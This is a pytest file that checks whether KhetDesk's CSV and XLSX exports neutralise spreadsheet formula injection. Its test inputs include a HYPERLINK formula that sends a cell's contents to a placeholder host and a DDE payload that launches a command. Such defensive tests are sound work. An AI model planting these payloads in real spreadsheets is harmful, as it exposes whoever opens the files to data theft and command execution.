"""No exported cell is a live formula (issue 17, reproduction 2; OWASP "CSV injection").

Text typed into KhetDesk — an asset's name or number, a note, a borrower, a purpose, the
reason for an out-of-order call — goes into every CSV and XLSX the program writes: the
asset register, the queue statistics and the loan register. Each file is read back with
openpyxl (formulas kept, not evaluated) and the csv module: no cell is a formula, no CSV
cell starts with a character a spreadsheet runs, numbers (negative ones included) stay
numbers, and importing the register gives back the original text."""

from __future__ import annotations

import csv
import datetime as dt
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from db.engine import make_engine
from db.uow import UnitOfWork
from desktop_app.services import loans, tickets
from desktop_app.services.asset_io import export_assets, import_assets
from desktop_app.services.assets import AssetInput, add_asset, list_assets
from desktop_app.services.setup import init_database
from desktop_app.services.stats_export import export_loans, export_queue
from desktop_app.services.tabular import FORMULA_STARTS, read_sheet, write_table
from tests.support.db import actor
from tests.support.loans import PROJECTOR, START, TODAY, request

HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"click")'
PLANTED = (HYPERLINK, "=1+1", "+66 2 123 4567", "-5", "@SUM(A1:A9)", "=cmd|' /C calc'!A0")


def _formula_cells(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula (data_type "f"), with where it is."""
    wb = load_workbook(path)  # not data_only: a formula is kept as one
    try:
        return [
            f"{ws.title}!{cell.coordinate}={cell.value!r}"
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
    finally:
        wb.close()


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _risky_csv_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a number
    (a negative amount is a number, and stays one)."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [
            v
            for row in csv.reader(f)
            for v in row
            if v.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(v)
        ]


def _all_text(path: Path) -> str:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            return "\n".join(v for row in csv.reader(f) for v in row)
    wb = load_workbook(path)
    try:
        return "\n".join(
            str(c.value) for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value
        )
    finally:
        wb.close()


def _add_planted_asset(uow: UnitOfWork) -> None:
    add = AssetInput.parse(
        asset_no="=1+1", name=HYPERLINK, kind="durable", price="1500.00",
        acquired="2024-01-10", unit_holder="@ฝ่ายการคลัง", location="+ห้อง 2",
        note="-ชำรุดเล็กน้อย =2*3",
    )  # fmt: skip
    with uow.write() as tx:
        add_asset(tx, actor(uow, "supply"), add)
        tx.commit()


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_reproduction_2_an_asset_export_holds_no_formula_and_re_imports_as_typed(
    office: UnitOfWork, tmp_path: Path, suffix: str
) -> None:
    _add_planted_asset(office)
    out = tmp_path / f"register.{suffix}"
    export_assets(office, out)
    if suffix == "xlsx":
        assert _formula_cells(out) == []
    else:
        assert _risky_csv_cells(out) == []
        assert "'=1+1" in _all_text(out)
    assert HYPERLINK in _all_text(out)  # the text itself is all there (CSV: after its ')

    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}", create=True)
    try:
        init_database(other, admin="admin", admin_password="admin-pw-17")
        target = UnitOfWork(other)
        import_assets(target, actor(target, "admin"), out)
        back = {a.asset_no: a for a in list_assets(target)}["=1+1"]
        assert (back.name, back.unit_holder, back.location, back.note) == (
            HYPERLINK, "@ฝ่ายการคลัง", "+ห้อง 2", "-ชำรุดเล็กน้อย =2*3",
        )  # fmt: skip
        assert back.price == Decimal("1500.00")
    finally:
        other.dispose()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_statistics_and_loan_register_exports_hold_no_formula(
    office: UnitOfWork, tmp_path: Path, fmt: str
) -> None:
    clerk, staff, supply = actor(office, "clerk1"), actor(office, "staff1"), actor(office, "supply")
    _add_planted_asset(office)
    tickets.issue_ticket(office, clerk, "A")
    second = tickets.issue_ticket(office, clerk, "A")
    tickets.pick(office, clerk, second.code, 1, '=HYPERLINK("http://x.example","ด่วน")')
    loan = request(office, staff, borrower_type="agency", borrower_user=None,
                   agency="@สำนักงานเขตบางกอกน้อย", borrower="=1+1",
                   purpose="+อบรม -ชุมชน", place="on_premises", items=[PROJECTOR])  # fmt: skip
    loans.approve_loan(office, actor(office, "director"), loan.loan_no)
    assert supply.role  # the register lists requests of every state

    queue_file = tmp_path / f"queue.{fmt}"
    loans_file = tmp_path / f"loans.{fmt}"
    export_queue(office, TODAY, None, queue_file, fmt)
    export_loans(office, START - dt.timedelta(days=30), START + dt.timedelta(days=30),
                 loans_file, fmt)  # fmt: skip
    for path in (queue_file, loans_file):
        if fmt == "xlsx":
            assert _formula_cells(path) == [], path.name
        else:
            assert _risky_csv_cells(path) == [], path.name
    assert "HYPERLINK" in _all_text(queue_file)
    assert "+อบรม -ชุมชน" in _all_text(loans_file)


def test_tab_cr_and_quotes_are_escaped_one_to_one_and_numbers_stay_numbers(tmp_path: Path) -> None:
    texts = [*PLANTED, "\tx", "\r=1", "'=1+1", "''@x", "'plain", "-", "ปกติ", "a=b"]
    rows = [(t, Decimal("-1250.50"), -3, 2.5) for t in texts]
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"t.{suffix}"
        write_table(path, ("text", "amount", "qty", "share"), rows)
        back = read_sheet(path).rows
        # XML reads a bare CR as a line feed (XLSX is XML); KhetDesk's own text never holds
        # control characters (domain.text.clean_text), only files made elsewhere could.
        expected = texts if suffix == "csv" else [t.replace("\r", "\n") for t in texts]
        assert [r[0] for _, r in back] == expected, suffix
        if suffix == "csv":
            assert _risky_csv_cells(path) == []
            assert back[0][1][1:] == ("-1250.50", "-3", "2.5")
        else:
            assert _formula_cells(path) == []
            ws = load_workbook(path).active
            for row in ws.iter_rows(min_row=2):
                assert row[0].data_type == "s"
                assert (row[1].data_type, row[2].data_type) == ("n", "n")
                assert row[1].value == Decimal("-1250.50") or row[1].value == -1250.5
                assert row[2].value == -3


def test_a_csv_cell_made_elsewhere_keeps_its_quote_unless_it_hides_a_formula(
    tmp_path: Path,
) -> None:
    path = tmp_path / "made-by-hand.csv"
    path.write_text("name\n'O'Brien\n'=1+1\n''=2\n", encoding="utf-8")
    assert [r[0] for _, r in read_sheet(path).rows] == ["'O'Brien", "=1+1", "'=2"]
